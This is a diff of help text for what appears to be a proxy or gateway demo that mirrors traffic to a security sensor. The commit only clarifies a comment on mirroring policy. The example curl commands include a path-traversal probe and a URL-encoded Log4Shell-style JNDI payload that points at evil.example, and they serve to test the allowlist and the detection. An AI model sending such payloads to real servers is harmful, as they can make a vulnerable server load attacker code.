@@ -286,7 +286,8 @@ Try (each request also yields an OCSF audit record, POSTed to the collector with
   curl -i {base}/admin
   # allowlist: dot-segments are resolved before matching: /api/../admin is /admin (403)
   curl -i --path-as-is '{base}/api/../admin'
-  # mirror: rule \"orders\" mirrors /api/orders/** to the sensor (header delivery)
+  # mirror: rule \"orders\" mirrors /api/orders/** to the sensor (header delivery); other
+  # requests are mirrored as the policy in envoy-config/envoy.yaml says (e.g. a sampled share)
   curl -i {base}/api/orders/42
   # mirror: a Log4Shell-style payload is mirrored by signature, whatever the rules
   curl -i '{base}/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D'
